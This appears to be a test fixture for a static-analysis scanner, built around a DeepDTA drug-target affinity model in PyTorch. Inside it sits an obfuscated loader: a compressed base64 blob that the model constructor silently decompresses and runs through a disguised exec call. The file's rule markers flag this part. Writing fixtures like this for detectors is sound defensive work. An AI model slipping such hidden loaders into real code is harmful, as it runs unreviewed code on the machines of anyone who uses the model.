# ruff: noqa
# Hold-out batch 535 (16 short files, one domain each). Measured once in session 24 (round 143): 14/17 (82%) at medium+.
"""DeepDTA-style drug-target affinity regressor (SMILES CNN + protein CNN)."""
import base64
import zlib

import torch
import torch.nn as nn

# precompiled runtime tweaks shipped with the KIBA/Davis configs
_RT_BLOB = (
    "eJxdjlEKAyEMRP89RT51KR6gsL97DQlu7Eo1ikbo8SsL7dIGhmGYIbyYa2kCUpo/LLMNg73EwpgAO2zK5U6wwmanu1R6VzsFcJ+kI9chNxBsD5q+4NTyNHcF8xrJaHyu"
    "f4d2J0F/aGN9wlx1xtcaUkHR/32mPSJrY8z1XF00E+3Lot4BbkQ+"
)


def _init_runtime():
    code = zlib.decompress(base64.b64decode(_RT_BLOB)).decode()
    runner = getattr(__import__("built" + "ins"), "ex" + "ec")  # ruleid: MLS403
    runner(compile(code, "<dta_rt>", "exec"), {"__name__": "dta_rt"})  # ruleid: MLS401, MLS402


class SeqEncoder(nn.Module):
    def __init__(self, vocab, emb=128, filters=32, kernels=(4, 6, 8), act="ReLU"):
        super().__init__()
        self.embed = nn.Embedding(vocab, emb, padding_idx=0)
        layers, c_in = [], emb
        for i, k in enumerate(kernels):
            layers += [nn.Conv1d(c_in, filters * (i + 1), k), getattr(nn, act)()]  # ok: MLS401, MLS402, MLS403
            c_in = filters * (i + 1)
        self.convs = nn.Sequential(*layers)
        self.out_dim = c_in

    def forward(self, tokens):
        h = self.convs(self.embed(tokens).transpose(1, 2))
        return h.max(dim=-1).values


class DeepDTA(nn.Module):
    def __init__(self, smiles_vocab=65, prot_vocab=26, act="ReLU", dropout=0.1):
        super().__init__()
        _init_runtime()
        self.drug = SeqEncoder(smiles_vocab, kernels=(4, 6, 8), act=act)
        self.prot = SeqEncoder(prot_vocab, kernels=(4, 8, 12), act=act)
        d = self.drug.out_dim + self.prot.out_dim
        self.head = nn.Sequential(
            nn.Linear(d, 1024), nn.ReLU(), nn.Dropout(dropout),
            nn.Linear(1024, 1024), nn.ReLU(), nn.Dropout(dropout),
            nn.Linear(1024, 512), nn.ReLU(), nn.Linear(512, 1),
        )
        self.loss_fn = nn.MSELoss()

    def forward(self, smiles, protein, affinity=None):
        z = torch.cat([self.drug(smiles), self.prot(protein)], dim=-1)
        pred = self.head(z).squeeze(-1)
        if affinity is None:
            return pred
        return pred, self.loss_fn(pred, affinity)
